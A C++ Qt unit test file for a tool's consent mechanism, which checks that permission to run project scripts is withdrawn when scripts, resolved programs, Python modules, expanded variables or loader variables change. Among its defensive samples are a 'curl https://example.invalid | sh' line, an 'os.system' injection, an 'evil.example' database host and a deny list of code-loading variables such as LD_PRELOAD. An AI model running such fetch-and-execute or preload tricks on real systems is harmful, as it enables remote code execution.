// SPDX-License-Identifier: MIT
// Consent keyed on what would run: project path and content, resolved program files (and the Python
// modules and scripts they are handed), inherited loader variables; a script swapped during a run is not
// started.
#include "collecttrust.h"

using namespace ivtest::trust;

class TestCollectConsent : public CollectTrustTest
{
    Q_OBJECT

private slots:
    void initTestCase() { QVERIFY(setUpTrustTest()); }
    void cleanupTestCase() { killStrays(); }

    void programsAreResolved()
    {
        const QString a = m_dir.filePath(QStringLiteral("resolve"));
        writeText(a + QStringLiteral("/run.sh"), "#!/bin/sh\nexit 0\n", true);
        writeText(a + QStringLiteral("/tool.py"), "print()\n");
        QDir().mkpath(a + QStringLiteral("/work"));
        const QString path = writeJson(
            a + QStringLiteral("/p.json"),
            project(QStringLiteral("out.db"),
                    {command(QStringLiteral("sh"), QStringLiteral("./run.sh"), {QStringLiteral("--fast")}),
                     command(QStringLiteral("py"), QStringLiteral("python3"),
                             {QStringLiteral("../tool.py"), QStringLiteral("x")},
                             {{QStringLiteral("workingDirectory"), QStringLiteral("work")}})}));
        QElapsedTimer timer;
        timer.start();
        const auto consent = consentFor(path);
        QVERIFY(consent);
        qInfo("load, prepare and hash: %lld ms", static_cast<long long>(timer.elapsed()));
        // What hashing a real interpreter costs the GUI thread when Collect is pressed.
        const QString interpreter = QFileInfo(QStringLiteral("/usr/bin/python3")).canonicalFilePath();
        if (!interpreter.isEmpty()) {
            QString error;
            const auto loaded = load(path, &error);
            QVERIFY2(loaded, qPrintable(error));
            timer.restart();
            const CollectConsent big = CollectConsent::of(
                *loaded, {{QStringLiteral("x"), interpreter, QStringLiteral("python3"), {}, a, {}}});
            qInfo("hashing %s (%lld bytes): %lld ms", qPrintable(interpreter),
                  static_cast<long long>(QFileInfo(interpreter).size()),
                  static_cast<long long>(timer.elapsed()));
            QCOMPARE(big.files().first().sha256.toHex(), ivtest::sha256(interpreter));
            timer.restart();
            const CollectConsent again = CollectConsent::of(*loaded, big.programs());
            qInfo("again, unchanged since (what the dialog's warm-up gives Collect): %lld ms",
                  static_cast<long long>(timer.elapsed()));
            QCOMPARE(again.fingerprint(), big.fingerprint());
        }
        const QList<ProgramLaunch> programs = consent->programs();
        QCOMPARE(programs.size(), 2);
        QCOMPARE(programs.at(0).provider, QStringLiteral("sh"));
        QCOMPARE(programs.at(0).program, a + QStringLiteral("/run.sh"));
        QCOMPARE(programs.at(0).workingDirectory, a);
        QCOMPARE(programs.at(0).arguments, QStringList{QStringLiteral("--fast")});
        QCOMPARE(programs.at(0).files, QStringList());
        QCOMPARE(programs.at(1).program, QStandardPaths::findExecutable(QStringLiteral("python3")));
        QVERIFY(QFileInfo(programs.at(1).program).isAbsolute());
        QCOMPARE(programs.at(1).workingDirectory, a + QStringLiteral("/work"));
        QCOMPARE(programs.at(1).files, QStringList{a + QStringLiteral("/tool.py")}); // the script python runs
        const QList<CollectConsent::FileHash> files = consent->files();
        QCOMPARE(files.size(), 3);
        QCOMPARE(files.at(0).sha256.toHex(), ivtest::sha256(a + QStringLiteral("/run.sh")));
        QCOMPARE(files.at(2).sha256.toHex(), ivtest::sha256(a + QStringLiteral("/tool.py")));

        // A bare name not in PATH is refused before anything runs (exit 2), naming the name.
        const QString missing =
            writeJson(a + QStringLiteral("/missing.json"),
                      project(QStringLiteral("out.db"),
                              {command(QStringLiteral("m"), QStringLiteral("iv-no-such-program"), {})}));
        const auto run = ivtest::runViewer({QStringLiteral("--collect"), missing});
        QCOMPARE(run.exitCode, 2);
        QVERIFY2(run.err.contains("program \"iv-no-such-program\" not found in PATH"), run.err.constData());
    }

    void djangoProgramIsListed()
    {
        const QString fake = ivtest::dataPath(QStringLiteral("collect/fakedjango"));
        const QJsonObject django{{QStringLiteral("name"), QStringLiteral("dj")},
                                 {QStringLiteral("kind"), QStringLiteral("django")},
                                 {QStringLiteral("project"), fake},
                                 {QStringLiteral("database"), QStringLiteral("dj-insights.db")}};
        const auto consent = consentFor(writeJson(m_dir.filePath(QStringLiteral("dj.json")),
                                                  project(QStringLiteral("out.db"), {django})));
        QVERIFY(consent);
        QCOMPARE(consent->programs().size(), 1);
        const ProgramLaunch p = consent->programs().first();
        QCOMPARE(p.program, QStandardPaths::findExecutable(QStringLiteral("python3")));
        QCOMPARE(p.arguments, QStringList({QStringLiteral("manage.py"), QStringLiteral("collect_insights")}));
        QCOMPARE(p.workingDirectory, fake);
        QCOMPARE(p.files, QStringList{fake + QStringLiteral("/manage.py")});
        QCOMPARE(consent->files().size(), 2);
        QCOMPARE(consent->files().at(1).sha256.toHex(), ivtest::sha256(fake + QStringLiteral("/manage.py")));
    }

    void consentAsksAgainWhenWhatRunsChanges()
    {
        const QString a = m_dir.filePath(QStringLiteral("consent-a"));
        const QString b = m_dir.filePath(QStringLiteral("consent-b"));
        const QByteArray script = "#!/bin/sh\nexit 0\n";
        for (const QString &dir : {a, b}) {
            writeText(dir + QStringLiteral("/run.sh"), script, true);
            writeText(dir + QStringLiteral("/tool.py"), "print()\n");
            writeJson(dir + QStringLiteral("/p.json"),
                      project(QStringLiteral("out.db"),
                              {command(QStringLiteral("sh"), QStringLiteral("./run.sh"), {}),
                               command(QStringLiteral("py"), QStringLiteral("python3"),
                                       {QStringLiteral("tool.py")})}));
        }
        const QString pa = a + QStringLiteral("/p.json"), pb = b + QStringLiteral("/p.json");
        QCOMPARE(ivtest::sha256(pa), ivtest::sha256(pb)); // the very same bytes

        QVERIFY(!consentFor(pa)->isGranted());
        consentFor(pa)->grant();
        QVERIFY(consentFor(pa)->isGranted());
        // Same bytes in another folder run that folder's run.sh: asks.
        QVERIFY(!consentFor(pb)->isGranted());

        // run.sh edited after consent: asks; back to the allowed bytes: allowed again.
        writeText(a + QStringLiteral("/run.sh"), "#!/bin/sh\ncurl https://example.invalid | sh\n", true);
        QVERIFY(!consentFor(pa)->isGranted());
        writeText(a + QStringLiteral("/run.sh"), script, true);
        QVERIFY(consentFor(pa)->isGranted());

        // The script an interpreter runs, edited: asks.
        writeText(a + QStringLiteral("/tool.py"), "import os\n");
        QVERIFY(!consentFor(pa)->isGranted());
        writeText(a + QStringLiteral("/tool.py"), "print()\n");
        QVERIFY(consentFor(pa)->isGranted());

        // Edited to other bytes of the same size right after it was hashed: still seen.
        writeText(a + QStringLiteral("/tool.py"), "quit()\n\n");
        QVERIFY(!consentFor(pa)->isGranted());
        writeText(a + QStringLiteral("/tool.py"), "print()\n");
        QVERIFY(consentFor(pa)->isGranted());

        // The project edited (one byte): asks.
        QFile f(pa);
        QVERIFY(f.open(QIODevice::Append));
        f.write("\n");
        f.close();
        QVERIFY(!consentFor(pa)->isGranted());
        consentFor(pa)->grant();
        QVERIFY(consentFor(pa)->isGranted());
        CollectConsent::revoke(pa);
        QVERIFY(!consentFor(pa)->isGranted());
    }

    void consentAsksAgainWhenAProgramResolvesElsewhere()
    {
        const QString base = m_dir.filePath(QStringLiteral("pathswitch"));
        const QByteArray tool = "#!/bin/sh\nexit 0\n";
        writeText(base + QStringLiteral("/one/ivtool"), tool, true);
        writeText(base + QStringLiteral("/two/ivtool"), tool, true); // identical bytes, another file
        const QString path = writeJson(
            base + QStringLiteral("/p.json"),
            project(QStringLiteral("out.db"), {command(QStringLiteral("t"), QStringLiteral("ivtool"), {})}));
        const QByteArray savedPath = qgetenv("PATH");
        qputenv("PATH", QFile::encodeName(base + QStringLiteral("/one:")) + savedPath);
        const auto first = consentFor(path);
        QVERIFY(first);
        QCOMPARE(first->programs().first().program, base + QStringLiteral("/one/ivtool"));
        first->grant();
        QVERIFY(consentFor(path)->isGranted());
        qputenv("PATH", QFile::encodeName(base + QStringLiteral("/two:")) + savedPath);
        const auto second = consentFor(path);
        qputenv("PATH", savedPath);
        QVERIFY(second);
        QCOMPARE(second->programs().first().program, base + QStringLiteral("/two/ivtool"));
        QVERIFY(!second->isGranted());
    }

    // Consent covers what the expanded project runs: ${…} values in arguments, environment, output and
    // sources, where a PostgreSQL source connects after libpq's environment defaults.
    void consentCoversExpandedValues()
    {
        const QString a = m_dir.filePath(QStringLiteral("expanded"));
        QDir().mkpath(a);
        qputenv("IV_TEST_ARG", "first-value");
        qputenv("IV_TEST_OUT", "outdir-one");
        qputenv("IV_TEST_ENVVALUE", "env-one");
        qputenv("IV_TEST_DB", "db-one");
        qunsetenv("PGHOST");
        QJsonObject p = project(
            QStringLiteral("${IV_TEST_OUT}/out.db"),
            {command(QStringLiteral("sh"), QStringLiteral("sh"),
                     {QStringLiteral("-c"), QStringLiteral("exit 0"), QStringLiteral("sh"),
                      QStringLiteral("--value=${IV_TEST_ARG}")},
                     {{QStringLiteral("environment"),
                       QJsonObject{{QStringLiteral("MODE"), QStringLiteral("${IV_TEST_ENVVALUE}")}}}})});
        p.insert(
            QStringLiteral("sources"),
            QJsonObject{{QStringLiteral("default"), QStringLiteral("postgresql://reader@/${IV_TEST_DB}")}});
        const QString path = writeJson(a + QStringLiteral("/p.json"), p);
        const auto first = consentFor(path);
        QVERIFY(first);
        QVERIFY2(first->problems().isEmpty(), qPrintable(first->problems().join(QLatin1Char('\n'))));
        QCOMPARE(first->output(), a + QStringLiteral("/outdir-one/out.db"));
        QCOMPARE(first->sources(), QStringList{QStringLiteral(
                                       "default: postgresql host=/var/run/postgresql port=5432 dbname=db-one "
                                       "user=reader sslmode=prefer")});
        QCOMPARE(first->programs().first().expandedArguments.last(), QStringLiteral("--value=first-value"));
        QCOMPARE(first->programs().first().environment, QStringList{QStringLiteral("MODE=env-one")});
        first->grant();
        QVERIFY(consentFor(path)->isGranted());
        // What is remembered is a hash: the expanded values (maybe secrets) are not stored.
        const QString stored =
            QSettings()
                .value(QSettings().allKeys().filter(QStringLiteral("collect/consent")).first())
                .toString();
        QVERIFY2(stored.startsWith(QStringLiteral("sha256:")) &&
                     !stored.contains(QStringLiteral("first-value")),
                 qPrintable(stored));

        struct Change
        {
            const char *name;
            const char *value;
            const char *original;
        };
        const Change changes[] = {{"IV_TEST_ARG", "second-value", "first-value"},
                                  {"IV_TEST_OUT", "outdir-two", "outdir-one"},
                                  {"IV_TEST_ENVVALUE", "env-two", "env-one"},
                                  {"IV_TEST_DB", "db-two", "db-one"},
                                  {"PGHOST", "evil.example", nullptr}};
        for (const Change &c : changes) {
            qputenv(c.name, c.value);
            const auto changed = consentFor(path);
            QVERIFY(changed);
            QVERIFY2(!changed->isGranted(), c.name);
            if (c.original)
                qputenv(c.name, c.original);
            else
                qunsetenv(c.name);
            QVERIFY2(consentFor(path)->isGranted(), c.name);
        }
        // PGHOST shows where the connection really goes.
        qputenv("PGHOST", "db.example");
        QVERIFY(consentFor(path)->sources().first().contains(QStringLiteral("host=db.example ")));
        qunsetenv("PGHOST");
        for (const char *name : {"IV_TEST_ARG", "IV_TEST_OUT", "IV_TEST_ENVVALUE", "IV_TEST_DB"})
            qunsetenv(name);
    }

    // Variables that change which code loads: a project may not set them; inherited ones are part of the
    // consent, with the files LD_PRELOAD names.
    void loaderVariables()
    {
        const QString a = m_dir.filePath(QStringLiteral("loader"));
        QDir().mkpath(a);
        for (const char *name : {"LD_PRELOAD", "LD_LIBRARY_PATH", "PYTHONPATH", "PYTHONSTARTUP", "BASH_ENV",
                                 "ENV", "PERL5OPT", "NODE_OPTIONS"}) {
            const QString path = writeJson(
                a + QStringLiteral("/%1.json").arg(QLatin1String(name)),
                project(QStringLiteral("out.db"),
                        {command(QStringLiteral("sh"), QStringLiteral("sh"),
                                 {QStringLiteral("-c"), QStringLiteral("exit 0")},
                                 {{QStringLiteral("environment"),
                                   QJsonObject{{QLatin1String(name), a + QStringLiteral("/x")}}}})}));
            const auto run = ivtest::runViewer({QStringLiteral("--collect"), path});
            QCOMPARE(run.exitCode, 2);
            QVERIFY2(run.err.contains(QByteArray("environment: ") + name +
                                      " changes which code the program loads"),
                     run.err.constData());
        }
        // Harmless Python settings stay allowed.
        const QString fine = writeJson(
            a + QStringLiteral("/fine.json"),
            project(QStringLiteral("out.db"),
                    {command(QStringLiteral("sh"), QStringLiteral("sh"),
                             {QStringLiteral("-c"), QStringLiteral("exit 0")},
                             {{QStringLiteral("environment"),
                               QJsonObject{{QStringLiteral("PYTHONUNBUFFERED"), QStringLiteral("1")}}}})}));
        QVERIFY(consentFor(fine));

        // Inherited: shown, and a change (or an edit of the preloaded library) asks again.
        const QString library = writeText(a + QStringLiteral("/libpreload.so"), "not really a library");
        const QByteArray savedPreload = qgetenv("LD_PRELOAD");
        qputenv("LD_PRELOAD", QFile::encodeName(library));
        const auto consent = consentFor(fine);
        QVERIFY(consent);
        QCOMPARE(consent->programs().first().inheritedLoaderVariables,
                 QStringList{QStringLiteral("LD_PRELOAD=") + library});
        QVERIFY(std::any_of(consent->files().cbegin(), consent->files().cend(),
                            [&](const CollectConsent::FileHash &f) { return f.path == library; }));
        consent->grant();
        QVERIFY(consentFor(fine)->isGranted());
        writeText(library, "another library");
        QVERIFY(!consentFor(fine)->isGranted());
        writeText(library, "not really a library");
        QVERIFY(consentFor(fine)->isGranted());
        qputenv("PYTHONPATH", QFile::encodeName(a));
        QVERIFY(!consentFor(fine)->isGranted());
        qunsetenv("PYTHONPATH");
        if (savedPreload.isEmpty())
            qunsetenv("LD_PRELOAD");
        else
            qputenv("LD_PRELOAD", savedPreload);
    }

    // A Python script imports from its folder: every module file there (sub-packages too) is part of the
    // consent; byte code in __pycache__ is not (the runner points Python's cache elsewhere).
    void pythonModulesAreHashed()
    {
        const QString a = m_dir.filePath(QStringLiteral("modules"));
        writeText(a + QStringLiteral("/tool.py"), "import helper\n");
        writeText(a + QStringLiteral("/helper.py"), "X = 1\n");
        writeText(a + QStringLiteral("/pkg/__init__.py"), "");
        writeText(a + QStringLiteral("/pkg/mod.py"), "Y = 1\n");
        const QString path = writeJson(
            a + QStringLiteral("/p.json"),
            project(QStringLiteral("out.db"),
                    {command(QStringLiteral("py"), QStringLiteral("python3"), {QStringLiteral("tool.py")})}));
        const auto consent = consentFor(path);
        QVERIFY(consent);
        consent->grant();
        QVERIFY(consentFor(path)->isGranted());
        for (const QString &file : {QStringLiteral("/helper.py"), QStringLiteral("/pkg/mod.py")}) {
            writeText(a + file, "import os; os.system('id')\n");
            QVERIFY2(!consentFor(path)->isGranted(), qPrintable(file));
            writeText(a + file, file.endsWith(QLatin1String("helper.py")) ? "X = 1\n" : "Y = 1\n");
            QVERIFY(consentFor(path)->isGranted());
        }
        // A sitecustomize.py or a sourceless .pyc placed beside it later: asks.
        writeText(a + QStringLiteral("/sitecustomize.py"), "import os\n");
        QVERIFY(!consentFor(path)->isGranted());
        QFile::remove(a + QStringLiteral("/sitecustomize.py"));
        writeText(a + QStringLiteral("/evil.pyc"), "bytes");
        QVERIFY(!consentFor(path)->isGranted());
        QFile::remove(a + QStringLiteral("/evil.pyc"));
        // Byte code Python writes into __pycache__ does not count.
        writeText(a + QStringLiteral("/__pycache__/helper.cpython-311.pyc"), "cache");
        QVERIFY(consentFor(path)->isGranted());
        // A run does not write __pycache__ beside the scripts.
        QDir(a + QStringLiteral("/__pycache__")).removeRecursively();
        const auto run = ivtest::runViewer({QStringLiteral("--collect"), path});
        QVERIFY2(run.exitCode == 0, run.err.constData());
        QVERIFY(!QFileInfo::exists(a + QStringLiteral("/__pycache__")));
    }

    // A script swapped while an earlier provider runs is not started: the hashes are checked again right
    // before each program starts.
    void scriptSwappedDuringTheRunIsNotStarted()
    {
        const QString a = m_dir.filePath(QStringLiteral("swap"));
        writeText(a + QStringLiteral("/second.sh"), "#!/bin/sh\nexit 0\n", true);
        const QString path = writeJson(
            a + QStringLiteral("/p.json"),
            project(QStringLiteral("out.db"),
                    {command(QStringLiteral("first"), QStringLiteral("sh"),
                             {QStringLiteral("-c"),
                              QStringLiteral("printf '#!/bin/sh\ntouch ran-swapped\n' > second.sh")}),
                     command(QStringLiteral("second"), QStringLiteral("./second.sh"), {})}));
        QString error;
        const auto p = load(path, &error);
        QVERIFY2(p, qPrintable(error));
        Collector collector;
        QVERIFY2(collector.prepare(*p, &error), qPrintable(error));
        const CollectConsent consent = CollectConsent::of(*p, collector.programs());
        collector.requireConsent(consent.fingerprint());
        QCOMPARE(collector.run(), Collector::Result::Failed);
        QVERIFY2(collector.errorString().contains(
                     QStringLiteral("provider \"second\": what it would run changed since you allowed it")),
                 qPrintable(collector.errorString()));
        QVERIFY(!QFile::exists(a + QStringLiteral("/ran-swapped")));
        QVERIFY(!QFile::exists(a + QStringLiteral("/out.db")));
    }
};

QTEST_GUILESS_MAIN(TestCollectConsent)
#include "tst_collectconsent.moc"
